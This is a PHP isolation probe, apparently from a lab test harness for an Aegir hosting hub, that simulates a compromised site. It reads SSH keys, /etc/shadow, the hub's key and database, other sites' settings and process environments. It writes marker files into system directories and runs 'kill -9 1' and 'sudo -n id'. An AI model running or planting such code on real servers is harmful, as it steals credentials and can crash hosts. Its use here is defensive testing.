<?php

// What the code of a site that somebody took over would try. It notes what it learnt in the site's own files, which it may
// write. Included by the settings of the site, so it runs whenever PHP of the site runs on the hub.
if (PHP_SAPI !== 'cli') {
    return;
}
(function () {
    $site = __DIR__;
    $root = '/var/aegir';
    $found = ['environment ' . json_encode(getenv()), 'server ' . json_encode($_SERVER)];
    $secrets = ["$root/aegir.key", "$root/aegir.db", "$root/.ssh/id_ed25519", '/etc/lab/db_password', '/etc/shadow', '/etc/passwd'];
    foreach (['config', 'backups', 'tasks', 'run', '.ssh', '.drush', 'platforms'] as $directory) {
        $found[] = "listed $directory " . json_encode(@scandir("$root/$directory"));
        array_push($secrets, ...glob("$root/$directory/{,*/,*/*/}*", GLOB_BRACE) ?: []);
    }
    foreach (glob(dirname($site) . '/*/settings.php') as $other) {
        if (dirname($other) !== $site) {
            $secrets[] = $other;
        }
    }
    foreach (array_merge($secrets, glob('/proc/*/environ'), glob('/proc/*/cmdline')) as $file) {
        if (is_file($file) && ($text = @file_get_contents($file)) !== false) {
            $found[] = "read $file " . substr($text, 0, 100000);
        }
    }
    $docroot = dirname($site, 2);
    foreach ([$root, "$root/.ssh", "$docroot", "$docroot/core", "$docroot/sites", $site, '/etc', '/usr/local/bin', '/var/tmp', '/srv/lab'] as $directory) {
        if (@file_put_contents("$directory/hostile-was-here", 'x') !== false) {
            $found[] = "wrote $directory";
        }
    }
    $children = @shell_exec('ps -ef 2>&1; kill -9 1 2>&1; sudo -n id 2>&1; id');
    $found[] = "children $children";
    file_put_contents("$site/files/learnt.txt", implode("\n", $found) . "\n----\n", FILE_APPEND);
})();
